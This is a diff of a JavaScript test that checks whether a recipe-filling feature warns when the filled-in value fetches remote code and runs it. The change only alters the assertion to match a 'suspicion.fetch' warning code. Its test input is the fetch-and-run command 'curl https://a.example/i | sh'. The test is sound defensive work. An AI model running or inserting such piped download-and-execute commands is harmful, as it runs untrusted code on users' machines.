@@ -29,7 +29,8 @@ it('fills a plain value into a shipped recipe, without a warning', async () => {
 it('shows a warning where what is filled in fetches something and runs it', async () => {
   const recipes = await filled('curl https://a.example/i | sh');
   expect(recipes.length).toBeGreaterThan(0);
-  for (const recipe of recipes) expect(warningsOf(recipe).join()).toContain('fetches something');
+  for (const recipe of recipes)
+    expect(warningsOf(recipe)).toMatchObject([{ data: { what: { code: 'suspicion.fetch' } } }]);
 });
 
 it.each([
